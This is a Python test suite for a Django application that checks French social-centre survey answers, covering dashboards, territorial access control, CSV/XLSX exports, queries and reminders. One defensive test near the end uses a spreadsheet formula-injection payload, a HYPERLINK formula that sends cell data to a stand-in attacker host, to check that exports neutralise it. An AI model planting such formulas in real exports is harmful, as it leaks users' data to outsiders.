import datetime
import io
import re
import zipfile
from html import unescape

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from senacs.controles.models import EtatInterpellation, EvenementValidation, Interpellation, Relance, Signalement
from senacs.controles.services import controle_lancer, interpellation_ouvrir
from senacs.reponses.models import Reponse
from tests.controles.fabriques import campagne_controle, reponse_deposee
from tests.factories import MandatFactory, StructureFactory

ANNEE = 2025


def texte(reponse) -> str:
    return unescape(reponse.content.decode())


@pytest.fixture
def campagne(db):
    return campagne_controle(ANNEE)


@pytest.fixture
def reponses(campagne, structure_69, structure_01):
    """Deux réponses fausses (ETP > salariés), une dans le Rhône, une dans l'Ain, contrôlées."""
    r69 = reponse_deposee(campagne, structure_69, E01=3, E02=9.0)
    r01 = reponse_deposee(campagne, structure_01, E01=1, E02=4.0)
    controle_lancer(campagne=campagne)
    return r69, r01


def url(nom, *args):
    return reverse(f"controles:{nom}", args=[ANNEE, *args])


def interpeller(reponse, par):
    s = Signalement.objects.get(reponse=reponse, code="R01")
    return interpellation_ouvrir(
        reponse=reponse,
        texte=s.message,
        echeance=timezone.localdate() + datetime.timedelta(days=10),
        signalement=s,
        par=par,
        organisme="Caf du Rhône",
    )


# --- Tableau de bord ---


def test_it_shows_a_correspondent_its_departments_and_their_anomalies(client, correspondant_69, reponses):
    client.force_login(correspondant_69)
    html = texte(client.get(url("tableau_de_bord")))
    assert "69 – Rhône" in html and "01 – Ain" not in html
    assert "Centre social de la Croix-Rousse" in html
    assert "Le nombre d'ETP (E02 = 9) dépasse le nombre de salariés (E01 = 3)" in html
    assert "Espace de vie sociale de Bourg" not in html and "E02 = 4" not in html
    assert "Interpeller pour les anomalies cochées" in html


def test_it_hides_other_territories(client, correspondant_69, reponses):
    r69, r01 = reponses
    client.force_login(correspondant_69)
    autre = Signalement.objects.filter(reponse=r01).first()
    assert client.get(url("reponse", r01.pk)).status_code == 404
    assert client.post(url("interpeller_anomalie", autre.pk)).status_code == 404
    i = interpeller(r01, MandatFactory(role="correspondant", departement_id="01").utilisateur)
    assert client.get(url("interpellation", i.pk)).status_code == 404
    assert client.post(url("valider", r01.pk)).status_code == 404


def test_a_regional_correspondent_sees_all_its_departments(client, correspondant_region_84, reponses):
    client.force_login(correspondant_region_84)
    html = texte(client.get(url("tableau_de_bord")))
    assert "Centre social de la Croix-Rousse" in html and "Espace de vie sociale de Bourg" in html


def test_the_national_committee_sees_aggregated_counts_nationwide_but_no_raw_answers(client, national, reponses):
    client.force_login(national)
    reponse = client.get(url("tableau_de_bord"))
    html = texte(reponse)
    assert reponse.status_code == 200
    assert "France entière, par région" in html and "Auvergne-Rhône-Alpes" in html and "Bretagne" in html
    assert "R01" in html  # comptes par code
    assert "Croix-Rousse" not in html and "Espace de vie sociale de Bourg" not in html
    assert "E02 = 9" not in html and "dépasse le nombre de salariés" not in html
    r69, _ = reponses
    assert client.get(url("reponse", r69.pk)).status_code == 403
    i = interpeller(r69, MandatFactory().utilisateur)
    assert client.get(url("interpellation", i.pk)).status_code == 403
    assert client.get(url("relances")).status_code == 403


@pytest.mark.parametrize("persona", ["usager_structure_69", "copil_69", "invite_69", "preparateur_69", "sans_mandat"])
def test_it_refuses_the_dashboard_to_roles_that_do_not_follow_the_collection(client, request, persona, reponses):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(url("tableau_de_bord")).status_code == 403
    assert client.get(url("exporter", "csv")).status_code == 403
    r69, _ = reponses
    assert client.get(url("reponse", r69.pk)).status_code == 403


@pytest.mark.parametrize("persona", ["copil_69", "invite_69", "preparateur_69", "sans_mandat", "national"])
def test_it_refuses_queries_to_roles_without_a_say(client, request, persona, reponses, correspondant_69):
    i = interpeller(reponses[0], correspondant_69)
    client.force_login(request.getfixturevalue(persona))
    assert client.get(url("interpellation", i.pk)).status_code == 403
    assert client.post(url("interpellation_agir", i.pk, "justifier"), {"texte": "x"}).status_code == 403


def test_filters_are_validated_against_the_perimeter(client, correspondant_69, reponses):
    client.force_login(correspondant_69)
    html = texte(client.get(url("tableau_de_bord"), {"departement": "01"}))
    assert "Ce département n'est pas dans votre périmètre." in html
    assert "Ce filtre a été ignoré" in html
    assert "Croix-Rousse" in html and "Bourg" not in html
    html = texte(client.get(url("tableau_de_bord"), {"gravite": "information"}))
    assert "Aucune anomalie ne correspond à ces critères." in html
    html = texte(client.get(url("tableau_de_bord"), {"code": "R01", "structure": "croix", "tri": "code"}))
    assert "dépasse le nombre de salariés" in html


def test_the_dashboard_runs_a_bounded_number_of_queries(
    client, correspondant_69, campagne, django_assert_max_num_queries
):
    for _ in range(12):
        reponse_deposee(campagne, StructureFactory(), E01=3, E02=9.0)
    controle_lancer(campagne=campagne)
    client.force_login(correspondant_69)
    # Indépendant du nombre de structures et d'anomalies ; 6 requêtes écrivent le journal des accès (les
    # messages des anomalies citent des valeurs brutes), 1 lit l'appareil du second facteur de la session.
    with django_assert_max_num_queries(
        22
    ):  # session, compte, second facteur, charte, mandats, compteur « À faire » du menu, puis la page
        assert client.get(url("tableau_de_bord")).status_code == 200


# --- Exports ---


def test_the_follow_up_list_exports_as_csv_for_french_excel(client, correspondant_69, reponses, structure_69):
    StructureFactory(nom="Centre social sans réponse")
    client.force_login(correspondant_69)
    reponse = client.get(url("exporter", "csv"))
    assert reponse["Content-Type"] == "text/csv; charset=utf-8"
    contenu = reponse.content
    assert contenu.startswith("\ufeff".encode())
    lignes = contenu.decode("utf-8-sig").splitlines()
    assert lignes[0].startswith("identifiant;structure;type;commune;departement;etat;deposee_le;validee_le;")
    croix = next(ligne.split(";") for ligne in lignes if "Croix-Rousse" in ligne)
    assert croix[5] == "Soumise" and int(croix[8]) >= 1
    assert any("Centre social sans réponse" in ligne and ";Non commencée;" in ligne for ligne in lignes)
    assert not any("Bourg" in ligne for ligne in lignes)


def test_the_territory_table_uses_french_decimals(client, correspondant_69, reponses):
    StructureFactory()
    StructureFactory()
    client.force_login(correspondant_69)
    lignes = client.get(url("exporter", "csv"), {"liste": "territoires"}).content.decode("utf-8-sig").splitlines()
    assert lignes[0].split(";")[8] == "taux_reponse_pct"
    assert lignes[1].split(";")[:3] == ["69", "69 – Rhône", "3"]
    assert lignes[1].split(";")[8] == "33,3"


def test_the_follow_up_list_exports_as_xlsx(client, national, reponses):
    client.force_login(national)
    reponse = client.get(url("exporter", "xlsx"))
    assert reponse["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    feuille = CalamineWorkbook.from_filelike(io.BytesIO(reponse.content)).get_sheet_by_index(0).to_python()
    assert feuille[0][:3] == ["identifiant", "structure", "type"]
    assert {ligne[4] for ligne in feuille[1:]} == {"69", "01"}  # le national suit tout le pays
    assert "message" not in feuille[0]


def test_an_unknown_export_format_is_not_found(client, correspondant_69, campagne):
    client.force_login(correspondant_69)
    assert client.get(url("exporter", "pdf")).status_code == 404


# --- Interpellations ---


def test_a_correspondent_opens_a_query_from_an_anomaly_in_one_click(client, correspondant_69, reponses, structure_69):
    structure_69.email = "cs@exemple.fr"
    structure_69.save()
    r69, _ = reponses
    s = Signalement.objects.get(reponse=r69, code="R01")
    client.force_login(correspondant_69)

    reponse = client.post(url("interpeller_anomalie", s.pk))

    i = Interpellation.objects.get()
    assert reponse.status_code == 302 and reponse.url == url("interpellation", i.pk)
    assert i.texte == s.message and i.signalement == s and i.questions == ["E01", "E02"]
    assert i.echeance == timezone.localdate() + datetime.timedelta(days=15)
    assert mail.outbox[0].to == ["cs@exemple.fr"]
    html = texte(client.get(url("tableau_de_bord")))
    assert "Interpellation en cours" in html
    # Un second clic ne crée pas de doublon.
    client.post(url("interpeller_anomalie", s.pk))
    assert Interpellation.objects.count() == 1


def test_a_free_query_form_is_prefilled_from_an_anomaly(client, correspondant_69, reponses):
    r69, _ = reponses
    s = Signalement.objects.get(reponse=r69, code="R01")
    client.force_login(correspondant_69)
    html = texte(client.get(url("reponse", r69.pk), {"anomalie": s.pk}))
    assert "À partir de l'anomalie" in html
    assert 'value="E01" checked' in html.replace('checked value="E01"', 'value="E01" checked') or "checked" in html
    reponse = client.post(
        url("interpeller", r69.pk),
        {"texte": "Combien de salariés ?", "echeance": "31/12/2099", "questions": ["E01"], "anomalie": s.pk},
    )
    i = Interpellation.objects.get()
    assert reponse.status_code == 302 and i.questions == ["E01"] and i.echeance == datetime.date(2099, 12, 31)
    reponse = client.post(url("interpeller", r69.pk), {"texte": "", "echeance": "01/01/2000"})
    assert reponse.status_code == 400
    html = texte(reponse)
    assert "Écrivez la question posée à la structure." in html and "L'échéance ne peut pas être passée." in html


def test_bulk_queries_ignore_anomalies_outside_the_perimeter(client, correspondant_69, reponses):
    r69, r01 = reponses
    ids = list(Signalement.objects.filter(reponse=r69).values_list("pk", flat=True))
    autre = Signalement.objects.filter(reponse=r01).first().pk
    client.force_login(correspondant_69)
    client.post(url("interpeller_en_masse"), {"signalements": [*ids, autre], "echeance": "31/12/2099"})
    assert Interpellation.objects.count() == 0  # la sélection contient une anomalie hors périmètre : refusée
    reponse = client.post(url("interpeller_en_masse"), {"signalements": ids, "echeance": "31/12/2099"}, follow=True)
    assert Interpellation.objects.count() == len(ids)
    assert f"{len(ids)} interpellation" in texte(reponse)


def test_the_structure_corrects_only_the_queried_answers_then_the_correspondent_resolves_and_validates(
    client, correspondant_69, usager_structure_69, reponses
):
    r69, _ = reponses
    i = interpeller(r69, correspondant_69)
    client.force_login(usager_structure_69)
    html = texte(client.get(url("interpellation", i.pk)))
    assert "Corriger la réponse" in html and 'name="q_E01"' in html and 'name="q_F04"' not in html

    reponse = client.post(
        url("interpellation_agir", i.pk, "corriger"),
        {"q_E01": "15", "v_E01": "1", "q_E02": "9", "v_E02": "1", "q_F04": "1", "v_F04": "1", "texte": "Corrigé."},
    )

    assert reponse.status_code == 302
    r69.refresh_from_db()
    assert r69.valeurs["E01"] == 15 and r69.valeurs["F04"] != 1
    i.refresh_from_db()
    assert i.etat == EtatInterpellation.REPONDUE
    html = texte(client.get(url("interpellation", i.pk)))
    assert "Correction de la réponse" in html and "<del>3</del> → <ins>15</ins>" in html
    assert client.post(url("interpellation_agir", i.pk, "resoudre")).status_code == 404  # pas le rôle de la structure

    client.force_login(correspondant_69)
    assert client.post(url("interpellation_agir", i.pk, "corriger"), {"q_E01": "1"}).status_code == 404
    client.post(url("interpellation_agir", i.pk, "resoudre"), {"texte": "Merci."})
    i.refresh_from_db()
    assert i.etat == EtatInterpellation.RESOLUE
    client.post(url("valider", r69.pk), {"confirme": "oui"})
    r69.refresh_from_db()
    assert r69.statut == "validee"
    assert EvenementValidation.objects.get(reponse=r69).par == correspondant_69


def test_a_french_number_error_is_shown_next_to_the_field(client, correspondant_69, usager_structure_69, reponses):
    i = interpeller(reponses[0], correspondant_69)
    client.force_login(usager_structure_69)
    reponse = client.post(
        url("interpellation_agir", i.pk, "corriger"), {"q_E01": "quinze", "v_E01": "1", "v_E02": "1"}
    )
    assert reponse.status_code == 400
    assert "« quinze » n'est pas un nombre" in texte(reponse)


def test_unlocking_needs_a_written_reason(client, correspondant_69, reponses):
    r69, _ = reponses
    Reponse.objects.filter(pk=r69.pk).update(statut="validee", validee_le=timezone.now())
    client.force_login(correspondant_69)
    reponse = client.post(url("deverrouiller", r69.pk), {"motif": ""})
    assert reponse.status_code == 400 and "Le motif du déverrouillage est obligatoire." in texte(reponse)
    client.post(url("deverrouiller", r69.pk), {"motif": "La fédération signale une erreur de ventilation."})
    r69.refresh_from_db()
    assert r69.statut == "soumise"
    assert "La fédération signale" in texte(client.get(url("reponse", r69.pk)))


# --- La structure ---


def test_a_structure_sees_its_own_status_anomalies_and_queries_only(
    client, usager_structure_69, correspondant_69, reponses, campagne
):
    r69, _ = reponses
    voisine = reponse_deposee(campagne, StructureFactory(nom="Centre social voisin"), C11=95)
    controle_lancer(campagne=campagne)
    interpeller(r69, correspondant_69)
    client.force_login(usager_structure_69)
    html = texte(client.get(url("ma_reponse")))
    assert "Centre social de la Croix-Rousse" in html and "Déposée" in html
    assert "dépasse le nombre de salariés (E01 = 3)" in html
    assert "Réponses que vous pouvez corriger en ce moment (interpellations ouvertes) : E01, E02." in html
    assert "Centre social voisin" not in html and "C11 = 95" not in html
    autre = Interpellation.objects.create(
        campagne=campagne,
        reponse=voisine,
        texte="?",
        echeance=datetime.date(2099, 1, 1),
        ouverte_par=correspondant_69,
        organisme="Caf",
    )
    assert client.get(url("interpellation", autre.pk)).status_code == 404


def test_a_structure_of_another_department_cannot_see_a_query(client, correspondant_69, reponses, structure_01):
    i = interpeller(reponses[0], correspondant_69)
    usager_01 = MandatFactory(
        role="structure", niveau="structure", departement=None, structure=structure_01, organisme="structure"
    ).utilisateur
    client.force_login(usager_01)
    assert client.get(url("interpellation", i.pk)).status_code == 404
    assert client.post(url("interpellation_agir", i.pk, "justifier"), {"texte": "x"}).status_code == 404
    assert "Croix-Rousse" not in texte(client.get(url("ma_reponse")))


def test_the_structure_page_is_for_structures_only(client, correspondant_69, campagne):
    client.force_login(correspondant_69)
    assert client.get(url("ma_reponse")).status_code == 403


# --- Relances ---


def test_a_correspondent_previews_then_sends_reminders(client, correspondant_69, campagne):
    StructureFactory(nom="CS sans adresse")
    StructureFactory(nom="CS avec adresse", email="cs@exemple.fr")
    StructureFactory(nom="CS de l'Ain", email="ain@exemple.fr", departement_id="01")
    client.force_login(correspondant_69)

    html = texte(client.get(url("relances"), {"nature": "non_deposee"}))
    assert "1 structure à relancer, 1 ignorée" in html
    assert "aucune adresse électronique connue" in html and "CS de l'Ain" not in html

    reponse = client.post(url("relances"), {"nature": "non_deposee", "departement": ""})
    assert reponse.status_code == 302
    assert [m.to for m in mail.outbox] == [["cs@exemple.fr"]]
    assert Relance.objects.get().par == correspondant_69
    html = texte(client.get(url("relances"), {"nature": "non_deposee"}))
    assert "0 structure à relancer" in html and "déjà relancée le" in html


def test_reminders_are_previewed_edited_sent_by_post_redirect_get_and_skip_closed_structures(
    client, correspondant_69, campagne
):
    StructureFactory(nom="CS ouvert", email="cs@exemple.fr")
    StructureFactory(nom="CS fermé", email="ferme@exemple.fr", active=False, date_fermeture=datetime.date(2025, 5, 15))
    client.force_login(correspondant_69)
    html = texte(client.get(url("relances"), {"nature": "non_deposee", "message": "Bonjour Claire, merci !"}))
    assert "structure fermée le 15/05/2025" in html
    assert "Le courriel, tel que « CS ouvert » le recevra" in html
    assert "Bonjour Claire, merci !" in html and "n'est pas encore déposée" in html  # aperçu avec le message

    reponse = client.post(
        url("relances"), {"nature": "non_deposee", "departement": "", "message": "Bonjour Claire, merci !"}
    )
    assert reponse.status_code == 302
    assert "csrfmiddlewaretoken" not in reponse["Location"] and "message" not in reponse["Location"]
    assert reponse["Location"].endswith("?nature=non_deposee&departement=")
    assert [m.to for m in mail.outbox] == [["cs@exemple.fr"]]
    assert mail.outbox[0].body.split("\n\n")[1].startswith("Bonjour Claire, merci !")


def test_reminders_refuse_a_department_outside_the_perimeter(client, correspondant_69, campagne):
    client.force_login(correspondant_69)
    reponse = client.post(url("relances"), {"nature": "non_deposee", "departement": "01"})
    assert reponse.status_code == 400
    assert not Relance.objects.exists()


# --- Un clic pour valider ou interpeller, réponses lues sur la page, confirmation ---


def test_a_deposited_response_without_anomaly_is_one_click_from_the_follow_up_and_the_structure_page(
    client, correspondant_69, campagne, structure_69
):
    r = reponse_deposee(campagne, structure_69, E01=12, E02=8.5)
    assert not Signalement.objects.filter(reponse=r).exists()  # aucune ligne d'anomalie qui mènerait à la page
    lien = f'href="{url("reponse", r.pk)}"'
    client.force_login(correspondant_69)
    suivi = texte(client.get(reverse("campagnes:suivi")))
    assert lien in suivi and "Valider ou interpeller" in suivi
    fiche = texte(client.get(reverse("structures:detail", args=[structure_69.pk])))
    assert lien in fiche and "Valider ou interpeller" in fiche


def test_the_control_page_shows_the_answers_themselves_and_logs_the_access(
    client, correspondant_69, campagne, structure_69
):
    from senacs.journal.models import AccesDonnees

    r = reponse_deposee(campagne, structure_69, E01=12, E02=8.5)
    client.force_login(correspondant_69)
    avant = AccesDonnees.objects.count()
    html = texte(client.get(url("reponse", r.pk)))
    assert "Réponses de la structure" in html
    assert "<dd>12\u00a0personnes</dd>" in html or "<dd>12</dd>" in html
    assert "8,5" in html
    assert AccesDonnees.objects.count() == avant + 1


def test_validation_asks_for_confirmation_first(client, correspondant_69, campagne, structure_69):
    r = reponse_deposee(campagne, structure_69, E01=12, E02=8.5)
    client.force_login(correspondant_69)
    page = client.post(url("valider", r.pk))
    assert page.status_code == 200 and "Oui, valider la réponse" in texte(page)
    r.refresh_from_db()
    assert r.statut == "soumise"
    client.post(url("valider", r.pk), {"confirme": "oui"})
    r.refresh_from_db()
    assert r.statut == "validee"


def test_the_query_form_groups_questions_by_section(client, correspondant_69, campagne, structure_69):
    r = reponse_deposee(campagne, structure_69, E01=12, E02=8.5)
    client.force_login(correspondant_69)
    html = texte(client.get(url("reponse", r.pk)))
    assert html.count("data-senacs-section") >= 5
    assert 'id="recherche-questions"' in html and "senacs/questions.js" in html


def test_the_national_level_gets_no_control_link_in_the_follow_up(client, campagne, structure_69, national):
    r = reponse_deposee(campagne, structure_69, E01=12, E02=8.5)
    client.force_login(national)
    assert url("reponse", r.pk) not in texte(client.get(reverse("campagnes:suivi")))


def test_a_correction_that_creates_a_blocking_error_is_shown_to_both_sides_with_the_way_to_fix_it(
    client, correspondant_69, usager_structure_69, reponses
):
    r69, _ = reponses
    i = interpeller(r69, correspondant_69)
    client.force_login(usager_structure_69)
    assert "supérieure ou égale à 0" not in texte(client.get(url("interpellation", i.pk)))
    reponse = client.post(
        url("interpellation_agir", i.pk, "corriger"),
        {"q_E01": "-4", "v_E01": "1", "q_E02": "9", "v_E02": "1", "texte": "Corrigé."},
        follow=True,
    )
    html = texte(reponse)
    assert re.search(r"Attention : elle crée \d+ erreurs? bloquantes?", html)
    assert "bloquantes dans la réponse actuelle" in html
    assert "supérieure ou égale à 0" in html and "votre correspondant rouvre l'interpellation" in html

    client.force_login(correspondant_69)
    html = texte(client.get(url("interpellation", i.pk)))
    assert "bloquantes dans la réponse actuelle" in html and "supérieure ou égale à 0" in html
    assert "rouvrez l'interpellation</a> : la structure pourra corriger de nouveau" in html


def test_the_dashboard_offers_a_button_that_runs_the_check_in_the_background_not_a_shell_command(
    client, correspondant_69, national, campagne, structure_69
):
    reponse_deposee(campagne, structure_69, E01=3, E02=9.0)
    client.force_login(correspondant_69)
    html = texte(client.get(url("tableau_de_bord")))
    assert "senacs controle" not in html and "Lancer le contrôle de mes départements" in html
    page = client.post(url("lancer"), follow=True)
    assert "Contrôle lancé en arrière-plan pour 1 département" in texte(page)
    assert Signalement.objects.filter(reponse__structure=structure_69, code="R01").exists()  # tâche exécutée
    client.force_login(national)
    assert client.post(url("lancer")).status_code == 403


# --- Exports sans formule (issue 12) ---


def test_a_structure_named_like_a_formula_stays_text_in_both_exports(client, correspondant_69, campagne):
    structure = StructureFactory(nom='=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")')
    reponse_deposee(campagne, structure, E01=3, E02=9.0)
    client.force_login(correspondant_69)

    classeur = client.get(url("exporter", "xlsx")).content
    with zipfile.ZipFile(io.BytesIO(classeur)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    feuille = CalamineWorkbook.from_filelike(io.BytesIO(classeur)).get_sheet_by_index(0).to_python()
    assert structure.nom in [ligne[1] for ligne in feuille]

    lignes = client.get(url("exporter", "csv")).content.decode("utf-8-sig").splitlines()
    ligne = next(ligne for ligne in lignes if "HYPERLINK" in ligne)
    assert ";\"'=HYPERLINK(" in ligne


def test_the_anomaly_list_quotes_raw_values_so_showing_it_is_logged(client, correspondant_69, reponses):
    from senacs.journal.models import AccesDonnees, Nature

    client.force_login(correspondant_69)
    page = texte(client.get(url("tableau_de_bord")))
    r69, _ = reponses
    assert r69.structure.nom in page
    acces = AccesDonnees.objects.get()
    assert acces.nature == Nature.CONTROLE and acces.utilisateur == correspondant_69
    assert list(acces.structures_consultees.values_list("structure_id", flat=True)) == [r69.structure_id]
